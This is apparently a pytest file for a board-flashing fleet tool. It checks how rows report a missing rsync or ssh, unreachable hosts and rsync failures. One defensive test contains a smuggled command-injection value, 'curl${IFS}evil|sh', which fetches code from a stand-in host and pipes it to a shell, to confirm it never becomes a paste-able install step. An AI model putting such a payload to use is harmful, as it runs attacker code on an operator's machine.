"""A fleet job that cannot be prepared because this machine lacks a program (labgrid copies the
image to its host with rsync) is not an unreachable host: its row says what to install here, and
its next step is to install it, then the same fleet command (a line brought up from the README:
with rsync missing, both boards read `unreachable` and `check that hosta answers`)."""
from __future__ import annotations

import asyncio
import subprocess
from pathlib import Path
from types import SimpleNamespace

from amdflash.pipeline.fleet.coordinator import BoardPlace
from amdflash.pipeline.fleet.run import FleetRun, Row, _Batch, _Job


def _job(place: str) -> _Job:
    board = BoardPlace(place, "hosta", "sim-1", "NetworkAmdflashBoard", "NetworkAmdflashBoard",
                       {"host": "hosta", "spec": "sim:/var/lib/amdflash/boards/b1", "kind": "sim"}, {})
    return _Job(board, "token", Row(place, "hosta", spec=board.args["spec"]))


def _prepare_fails(monkeypatch, tmp_path: Path, exc_from) -> list[Row]:
    fleet = FleetRun("127.0.0.1:20408", {"line": "a"}, "flash", image=Path("/srv/images/new.bin"))
    monkeypatch.setattr(FleetRun, "_command", lambda self, batch: exc_from())
    batch = _Batch([_job("hosta-b1"), _job("hosta-b2")])
    asyncio.run(fleet._run_batch(SimpleNamespace(lost=True), batch))
    for job in batch.jobs:
        job.row.next_step = fleet._next_step(job.row, job.board)
    return [job.row for job in batch.jobs]


def test_rsync_missing_here_is_said_as_such_with_the_install_as_next_step(monkeypatch, tmp_path: Path) -> None:
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))      # no rsync: as subprocess (labgrid) fails to start it
    rows = _prepare_fails(monkeypatch, tmp_path, lambda: subprocess.run(["rsync", "--version"], check=False))
    for row in rows:
        assert row.status == "refused", row
        assert "nothing ran on hosta: rsync is not installed on this machine" in row.error
        assert row.next_step == ("install rsync on this machine (Debian: apt-get install rsync), then amdflash "
                                 f"fleet flash /srv/images/new.bin --where name={row.board} --yes "
                                 "--coordinator 127.0.0.1:20408")


def test_another_failure_to_prepare_still_reads_unreachable(monkeypatch, tmp_path: Path) -> None:
    def refused() -> None:
        raise OSError("ssh: connect to host hosta port 22: Connection refused")

    for row in _prepare_fails(monkeypatch, tmp_path, refused):
        assert row.status == "unreachable" and "Connection refused" in row.error
        assert row.next_step.startswith("check that hosta answers: ssh hosta true; then amdflash fleet flash")


def test_a_host_s_words_never_become_an_install_step(monkeypatch, tmp_path: Path) -> None:
    """The install step is for a program this machine's PATH lacked, never built from an error's
    text: a refused row whose error a host (or a spec the coordinator published) made say 'is not
    installed on this machine' gets no such step (an attacker's spec made it print
    `install /x;curl …|sh;# …` for the operator to paste)."""
    fleet = FleetRun("127.0.0.1:20408", {"line": "a"}, "info")
    job = _job("hosta-b1")
    job.row.status = "refused"
    job.row.error = "sim:/x;curl${IFS}evil|sh;# is not installed on this machine is not an emulated board"
    assert fleet._next_step(job.row, job.board) is None


def test_a_program_that_failed_says_why_in_the_row(monkeypatch, tmp_path: Path) -> None:
    """rsync that ran and failed (the host's cache not writable, its disk full): its last line is in
    the row's error, as labgrid's exception does not carry it and its lines are no longer printed."""
    said = b"sending incremental file list\r\nrsync: mkstemp \"/var/cache/labgrid/op/x\" failed: Permission denied (13)\n"

    def failed() -> None:
        raise subprocess.CalledProcessError(23, ["rsync", "image.bin", "hosta:/var/cache/labgrid"], output=said)

    for row in _prepare_fails(monkeypatch, tmp_path, failed):
        assert row.status == "unreachable"
        assert row.error.endswith('rsync: mkstemp "/var/cache/labgrid/op/x" failed: Permission denied (13)'), row.error


def test_ssh_that_cannot_be_started_is_a_row_not_a_crash(monkeypatch, tmp_path: Path) -> None:
    """A job with no image to copy starts ssh directly: ssh missing here is a refused row with its
    install step, not an internal error that leaves the other hosts' jobs unwatched."""
    empty = tmp_path / "bin"
    empty.mkdir()
    monkeypatch.setenv("PATH", str(empty))
    fleet = FleetRun("127.0.0.1:20408", {"line": "a"}, "info")
    monkeypatch.setattr(FleetRun, "_command", lambda self, batch: ["ssh", "hosta", "true"])
    batch = _Batch([_job("hosta-b1")])
    asyncio.run(fleet._run_batch(SimpleNamespace(lost=True), batch))
    row = batch.jobs[0].row
    assert row.status == "refused" and "ssh is not installed on this machine" in row.error
    assert fleet._next_step(row, batch.jobs[0].board).startswith("install ssh on this machine")
